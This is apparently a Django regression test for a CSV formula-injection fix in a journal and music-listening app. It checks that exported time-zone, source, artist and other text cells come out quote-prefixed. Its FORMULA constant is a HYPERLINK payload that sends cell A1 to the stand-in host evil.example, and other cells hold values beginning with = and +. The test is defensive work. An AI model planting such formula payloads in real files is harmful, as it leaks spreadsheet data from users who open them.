"""Issue 19: `time_zone` and `source` reached the CSV downloads as written, so an
imported value such as `=HYPERLINK(…)` ran as a formula in a spreadsheet. Every
text cell of both downloads is now kept as text."""

from __future__ import annotations

import csv
import io

from django.test import Client

from accounts.models import User
from journal.models import CheckIn
from music.models import Listen, Track
from tests.factories import make_checkin, make_listen, make_track

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def download(client: Client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(text)))


def test_the_checkin_csv_keeps_an_imported_time_zone_as_text(
    alice: User, alice_client: Client
) -> None:
    checkin = make_checkin(alice, "a note")
    CheckIn.objects.filter(pk=checkin.pk).update(time_zone=FORMULA)
    (row,) = download(alice_client, "/settings/export.csv")
    assert row["time_zone"] == "'" + FORMULA


def test_the_listens_csv_keeps_every_imported_text_as_text(
    alice: User, alice_client: Client
) -> None:
    track = make_track(alice, "=Artist", "+Title")
    Track.objects.filter(pk=track.pk).update(
        mbid=None, spotify_uri="@spotify:track:x", isrc="-ISRC"
    )
    listen = make_listen(alice, track)
    Listen.objects.filter(pk=listen.pk).update(
        source="=HYPERLINK(A1)", details={"release_mbid": "=release"}
    )
    (row,) = download(alice_client, "/music/listens.csv")
    for column in ("artist", "title", "source", "spotify_uri", "isrc", "release_mbid"):
        assert row[column].startswith("'"), (column, row[column])
